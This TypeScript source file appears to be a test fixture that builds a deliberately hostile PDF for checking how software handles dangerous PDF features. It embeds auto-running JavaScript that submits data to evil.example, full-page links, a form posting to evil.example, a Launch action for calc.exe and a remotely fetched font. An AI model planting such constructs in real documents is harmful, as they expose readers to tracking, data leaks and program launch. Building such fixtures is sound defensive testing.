/**
 * A PDF that tries what a PDF can: a script when it is opened and when its page is, one behind its name tree, a link over
 * the whole page, a form that sends itself, a file to launch, and a font and a picture from outside.
 */
export const hostilePdf: Buffer = file([
  `<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R /Names << /JavaScript << /Names [(x) 8 0 R] >> >>
      /AcroForm << /Fields [11 0 R] >> /AA << /WC 8 0 R >> >>`,
  '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Resources << /Font << /F1 5 0 R /F2 12 0 R >> >>
      /Contents 6 0 R /Annots [9 0 R 10 0 R 11 0 R] /AA << /O 8 0 R >> >>`,
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Resources << /Font << /F1 5 0 R >> >> /Contents 7 0 R >>',
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  stream('BT /F1 24 Tf 40 300 Td (You owe us) Tj /F2 12 Tf 0 -40 Td (everything) Tj ET'),
  stream('BT /F1 24 Tf 40 300 Td (The last page) Tj ET'),
  "<< /S /JavaScript /JS (app.alert\\('script'\\); window.pwned = true; this.submitForm\\('https://evil.example/js'\\)) >>",
  '<< /Type /Annot /Subtype /Link /Rect [0 0 400 400] /A << /S /URI /URI (https://evil.example/link) >> >>',
  '<< /Type /Annot /Subtype /Link /Rect [0 0 400 400] /A << /S /Launch /F (calc.exe) >> >>',
  `<< /Type /Annot /Subtype /Widget /FT /Btn /T (pay) /Rect [0 0 400 400]
      /A << /S /SubmitForm /F (https://evil.example/form) >> /AA << /E 8 0 R /Fo 8 0 R >> >>`,
  `<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor << /Type /FontDescriptor /FontName /Evil
      /FontFile2 << /F << /FS /URL /F (https://evil.example/font.ttf) >> /Length 0 >> >> >>`,
])

function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`
}

function file(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`
  const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`
  return Buffer.from(text + table + end, 'latin1')
}
